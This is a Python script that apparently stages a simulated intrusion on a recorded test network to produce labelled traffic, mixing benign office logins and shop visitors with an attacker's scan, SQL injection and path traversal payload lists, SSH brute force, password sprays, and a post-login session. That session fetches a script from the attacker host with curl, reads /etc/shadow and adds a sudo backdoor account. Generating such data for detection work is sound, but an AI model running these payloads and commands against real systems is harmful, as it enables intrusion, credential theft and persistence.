"""Plays ten minutes on the recorded network: an office at work, visitors, one attacker, two sprayers."""

import argparse
import functools
import json
import pathlib
import queue
import random
import threading
import time

import clients

ATTACKER = "203.0.113.7"
SPRAYER = "198.51.100.23"
SLOW_SPRAYER = "198.51.100.77"
LENGTH = 590
VISITORS = [
    ("office", "10.0.1.11", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("office", "10.0.1.12", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0"),
    ("office", "10.0.1.13", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 Version/17.6 Safari/605.1.15"),
    ("office", "10.0.1.14", "shop-monitor/2.1"),
    ("internet", "192.0.2.10", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"),
    ("internet", "192.0.2.45", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"),
    ("internet", "192.0.2.101", "Mozilla/5.0 (compatible; examplebot/1.0; +http://bot.example/)"),
]  # fmt: skip
PORTS = [
    21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 135, 139, 143, 389, 443, 445, 465, 587, 636, 993, 995, 1433,
    1521, 2049, 2375, 3000, 3306, 3389, 5432, 5601, 5900, 5985, 6379, 6443, 8000, 8080, 8443, 9000, 9200, 11211, 27017,
]  # fmt: skip
INJECTIONS = [
    "/product?id=42'", "/product?id=42%27%20AND%201=1--", "/product?id=42%27%20AND%201=2--",
    "/product?id=42%27%20OR%20%271%27=%271", "/product?id=42%27%20ORDER%20BY%201--",
    "/product?id=42%27%20ORDER%20BY%205--", "/product?id=-1%27%20UNION%20SELECT%20NULL--",
    "/product?id=-1%27%20UNION%20SELECT%20NULL,NULL--", "/product?id=-1%27%20UNION%20SELECT%20NULL,NULL,NULL--",
    "/product?id=-1%27%20UNION%20ALL%20SELECT%20table_name,NULL,NULL%20FROM%20information_schema.tables--",
    "/product?id=-1%27%20UNION%20SELECT%20login,password,NULL%20FROM%20users--",
    "/search?q=1%27;WAITFOR%20DELAY%20%270:0:5%27--", "/search?q=1%27%20AND%20SLEEP(5)%23",
    "/search?q=%27%20UNION%20SELECT%20@@version,NULL,NULL--",
]  # fmt: skip
TRAVERSALS = [
    "/static/../../etc/passwd", "/static/../../../etc/passwd", "/static/../../../../etc/shadow",
    "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%5c..%5cwindows%5cwin.ini", "/product?file=../../../../etc/passwd",
    "/product?file=..%2f..%2f..%2f..%2fetc%2fpasswd%00", "/../../../../proc/self/environ", "/.git/config", "/.env",
    "/backup.zip",
]  # fmt: skip
GUESSED_USERS = ["admin", "administrator", "test", "oracle", "postgres", "git", "jenkins", "ubuntu", "ftpuser",
                 "pi", "support", "guest", "mysql"]  # fmt: skip
GUESSES = ["123456", "password", "admin", "root", "toor", "qwerty", "letmein", "changeme", "12345678", "welcome1",
           "P@ssw0rd", "iloveyou", "monkey", "dragon", "master", "Passw0rd!", "Winter2025!", "Spring2026!"]  # fmt: skip
COMMANDS = ["id", "whoami", "uname -a", "hostname", "ls -la /home", "cat /etc/passwd | tail -n 14", "sudo -l",
            "ps aux | head -n 5", "ip address", "ip route", "find /home -name id_ed25519",
            "curl -s -o /tmp/.update.sh http://203.0.113.7:8080/update.sh", "chmod +x /tmp/.update.sh"]  # fmt: skip
ROOT_COMMANDS = ["id", "useradd -m -s /bin/bash backup-svc", "usermod -aG sudo backup-svc", "cat /etc/shadow | wc -l",
                 "rm -f /tmp/.update.sh", "exit"]  # fmt: skip


class Scenario:
    """The actors; each method runs in a thread inside the network it belongs to."""

    def __init__(self, options: argparse.Namespace) -> None:
        lines = options.passwords.read_text().split()
        self.passwords = dict(line.split(":", 1) for line in lines)
        self.key = options.key
        self.ssh = clients.Ssh(options.scratch)
        self.clock = clients.Clock(options.pace)
        self.marks: dict[str, float] = {"start": self.clock.start}

    def mark(self, name: str) -> None:
        """Notes when something began, for the records that have to be placed beside it."""
        self.marks[name] = time.time()

    def visit_shop(self, address: str, agent: str) -> None:
        """Visits of a few pages with their style sheet and pictures, with pauses to read."""
        dice = random.Random(address)
        self.clock.rest(dice.uniform(0, 15))
        while time.time() < self.clock.start + LENGTH * self.clock.pace:
            requests = self.one_visit(dice, agent)
            pauses = [dice.uniform(0.01, 0.09) if "/static/" in r[1] else dice.uniform(1.2, 4) for r in requests]
            clients.browse(address, agent, requests, [p * self.clock.pace for p in pauses])
            self.clock.rest(dice.uniform(12, 45))

    def one_visit(self, dice: random.Random, agent: str) -> list[tuple[str, str, str]]:
        """The requests of one visit."""
        site = "http://shop.example"
        if "monitor" in agent:
            return [("GET", "/", ""), ("GET", "/api/stock", "")]
        if "bot" in agent:
            return [("GET", "/robots.txt", ""), *(("GET", f"/product?id={n}", "") for n in dice.sample(range(400), 4))]
        requests = [("GET", "/", ""), ("GET", "/static/site.css", site + "/"), ("GET", "/static/site.js", site + "/"),
                    ("GET", "/static/logo.svg", site + "/")]  # fmt: skip
        if dice.random() < 0.3:
            requests.append(("GET", "/favicon.ico", site + "/"))
        for number in dice.sample(range(1, 61), dice.randint(1, 3)):
            requests.append(("GET", f"/product?id={number}", site + "/"))
            requests.append(("GET", f"/static/glass-{number % 8 + 1}.jpg", f"{site}/product?id={number}"))
        last = dice.choice(["/about", "/contact", "/delivery", "/search?q=field+glass", "/search?q=select+a+strap", "login"])
        if last == "login":
            return [*requests, ("GET", "/login", site + "/"), ("POST", "/login", site + "/login"), ("GET", "/api/cart", "")]
        return [*requests, ("GET", last, site + "/")]

    def work_in_office(self) -> None:
        """Good logins by password, and the typing mistakes that happen."""
        plan = [(12, "alice", 20, True), (47, "bob", 21, True), (95, "alice", 20, False), (104, "alice", 20, True),
                (188, "carol", 22, True), (262, "bob", 21, True), (330, "bob", 21, False), (338, "bob", 21, True),
                (372, "dave", 23, False), (380, "dave", 23, False), (391, "dave", 23, True), (455, "carol", 22, True),
                (541, "alice", 20, True)]  # fmt: skip
        for second, user, host, right in plan:
            self.clock.until(second)
            password = self.passwords[user] if right else self.passwords[user][:-1]
            if self.ssh.password(f"10.0.1.{host}", user, password, "uptime; sleep 2") != right:
                raise RuntimeError(f"login of {user} at {second} s went the wrong way")

    def deploy_from_ci(self) -> None:
        """The build server's deployments, by key."""
        for second in range(35, LENGTH, 110):
            self.clock.until(second)
            self.ssh.key("10.0.1.23", "deploy", self.key, "ls /srv/shop; sleep 3")

    def attack(self) -> None:
        """Scan, web attacks, user enumeration, brute force, and the session that follows."""
        self.clock.until(60)
        self.mark("scan")
        clients.connect_scan(ATTACKER, PORTS, 0.06)
        self.clock.until(85)
        self.mark("injection")
        for path in INJECTIONS:
            clients.curl(ATTACKER, path)
            self.clock.rest(2.2)
        self.clock.until(124)
        self.mark("traversal")
        for path in TRAVERSALS:
            clients.curl(ATTACKER, path)
            self.clock.rest(1.9)
        self.clock.until(160)
        self.mark("enumeration")
        for user in GUESSED_USERS:
            self.ssh.probe(ATTACKER, user)
            self.clock.rest(1.6)
        self.clock.until(205)
        self.mark("brute_force")
        guesses: queue.SimpleQueue[tuple[str, str]] = queue.SimpleQueue()
        for guess in GUESSES:
            guesses.put(("root", guess))
            guesses.put(("deploy", guess))
        workers = [threading.Thread(target=self.guess, args=(guesses,)) for _ in range(3)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()
        self.mark("success")
        self.session()

    def guess(self, guesses: "queue.SimpleQueue[tuple[str, str]]") -> None:
        """Takes guesses until none is left. Threads inherit the network of the one that made them."""
        while not guesses.empty():
            try:
                user, password = guesses.get_nowait()
            except queue.Empty:
                return
            if self.ssh.password(ATTACKER, user, password):
                raise RuntimeError("a guess that should fail has succeeded")
            self.clock.rest(1)

    def session(self) -> None:
        """The right guess, then commands typed at a terminal."""
        shell = self.ssh.terminal(ATTACKER, "deploy", self.passwords["deploy"])
        script = b"#!/bin/sh\n# stands for a dropper; does nothing\nexit 0\n"
        server = threading.Thread(target=clients.serve_once, args=(ATTACKER, 8080, script, 120))
        server.start()
        self.clock.rest(6)
        for command in [*COMMANDS, "sudo -i"]:
            self.type(shell, command, 3.4)
        self.mark("root_whoami")
        for command in ["whoami", *ROOT_COMMANDS, "exit"]:
            self.type(shell, command, 4.1)
        shell.wait(timeout=20)
        server.join()

    def type(self, shell, command: str, pause: float) -> None:
        """Types one command and lets it run."""
        shell.stdin.write(command + "\n")
        shell.stdin.flush()
        self.clock.rest(pause)

    def spray(self) -> None:
        """One password for every user, at once."""
        self.clock.until(430)
        self.mark("spray")
        for user in sorted(self.passwords):
            self.ssh.password(SPRAYER, user, "Autumn2026!")
            self.clock.rest(0.3)

    def spray_slowly(self) -> None:
        """One password for every user, so slowly that no minute holds two failures."""
        self.mark("slow_spray")
        for number, user in enumerate(sorted(self.passwords)):
            self.clock.until(22 + 48 * number)
            self.ssh.password(SLOW_SPRAYER, user, "Harrier#1")


def main() -> None:
    """Starts the actors, waits for them, writes the marks."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--pace", type=float, required=True)
    for network in ("web", "office", "internet"):
        parser.add_argument(f"--{network}", type=int, required=True)
    for path in ("passwords", "key", "marks", "scratch"):
        parser.add_argument(f"--{path}", type=pathlib.Path, required=True)
    options = parser.parse_args()
    scenario = Scenario(options)
    failures: list[str] = []
    actors = [("office", scenario.work_in_office), ("office", scenario.deploy_from_ci), ("internet", scenario.attack),
              ("internet", scenario.spray), ("internet", scenario.spray_slowly)]  # fmt: skip
    for network, address, agent in VISITORS:
        visitor = functools.partial(scenario.visit_shop, address, agent)
        functools.update_wrapper(visitor, scenario.visit_shop)
        actors.append((network, visitor))
    threads = [clients.start(getattr(options, network), actor, failures) for network, actor in actors]
    for thread in threads:
        thread.join()
    if failures:
        raise SystemExit("scenario: " + "; ".join(failures))
    scenario.mark("end")
    options.marks.write_text(json.dumps(scenario.marks))


if __name__ == "__main__":
    main()
